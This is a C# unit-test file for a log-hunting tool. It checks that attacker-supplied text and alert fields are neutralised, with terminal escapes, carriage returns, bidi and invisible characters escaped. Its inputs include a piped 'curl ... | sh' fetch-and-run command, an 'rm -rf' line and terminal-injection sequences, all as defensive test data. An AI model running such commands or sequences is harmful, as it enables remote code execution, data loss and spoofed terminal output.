using System;
using System.Linq;
using B64Hunt.Model;
using B64Hunt.Text;
using Xunit;
using static B64Hunt.Tests.Hostile.HostileLines;

namespace B64Hunt.Tests.Hostile
{
    /// <summary>Issue #12 item 6: attacker text is neutralised when read in, and kept exactly in the Raw properties.</summary>
    public class NeutralizeTests
    {
        [Theory]
        [InlineData(Osc0, "\\x1b]0;owned\\x07")]
        [InlineData(Csi2J, "\\x1b[2J")]
        [InlineData("rm -rf /tmp/x\rls", "rm -rf /tmp/x\\x0dls")]
        [InlineData("echo \u202Eevil", "echo \\u202eevil")]
        [InlineData("cu\u200Brl", "cu\\u200brl")]
        [InlineData("a\u0085b", "a\\u0085b")]
        [InlineData("x\uDB40\uDC41y", "x\\U000e0041y")]
        [InlineData("line\u2028break", "line\\u2028break")]
        public void ControlsBidiAndInvisibleCharactersAreEscaped(string raw, string shown)
        {
            Assert.Equal(shown, DataText.Neutralize(raw));
            Assert.Equal(shown, DataText.Neutralize(DataText.Neutralize(raw))); // twice changes nothing
        }

        [Fact]
        public void PrintableAsciiBeforeAnyCharacterChangesNothingAfterIt()
        {
            // The vectorised skip over printable ASCII must hand the per-character rule the same text at every position:
            // a CR before LF, a surrogate pair, a lone surrogate, a control, a format character, DEL, C1, U+2028.
            string[] tails = { "\r\nx", "\rx", "😀", "\uD800x", "\uDC00", "\x1b[2J", "\u200Bx", "\u007F", "\u0085", "\u2028", "é\t\n", "\U000E0041" };
            var random = new Random(16);
            foreach (string tail in tails)
            {
                for (int n = 0; n < 40; n++)
                {
                    string prefix = new string(Enumerable.Range(0, n).Select(_ => (char)random.Next(0x20, 0x7F)).ToArray());
                    Assert.Equal(prefix + DataText.Neutralize(tail), DataText.Neutralize(prefix + tail));
                    Assert.Equal(DataText.IsNeutral(tail), DataText.IsNeutral(prefix + tail));
                }
            }
            Assert.True(DataText.IsNeutral(""));
            Assert.Same(string.Empty, DataText.Neutralize(string.Empty));
        }

        [Fact]
        public void ALoneSurrogateIsEscaped()
        {
            Assert.Equal("lone\\ud800!", DataText.Neutralize("lone\uD800!"));
        }

        [Theory]
        [InlineData("curl -s http://203.0.113.5/a.sh | sh")]
        [InlineData("echo 'héllo wörld' 中文 😀\tdone\nnext\r\nlast")]
        [InlineData("printf '\\x1b[31m'")] // an escape written as text is text
        public void OrdinaryTextIsTheSameInstance(string text)
        {
            Assert.Same(text, DataText.Neutralize(text));
        }

        [Fact]
        public void AlertTextIsNeutralisedToo()
        {
            var row = new System.Collections.Generic.Dictionary<string, object?>
            {
                ["AlertName"] = "Suspicious" + Osc0, ["AlertSeverity"] = "High", ["Description"] = "see\rhidden", ["CompromisedEntity"] = "web-01" + Csi2J,
            };
            var alert = B64Hunt.LogAnalytics.SecurityAlertMapper.Create(row, "web-01" + Osc52, "alerts.csv:2");
            Assert.True(IsDisplaySafe(alert.AlertName) && IsDisplaySafe(alert.Description) && IsDisplaySafe(alert.Computer) && IsDisplaySafe(alert.CompromisedEntity));
            Assert.Equal("Suspicious\\x1b]0;owned\\x07", alert.AlertName);
            Assert.Equal(AlertSeverity.High, alert.Severity);
        }
    }
}
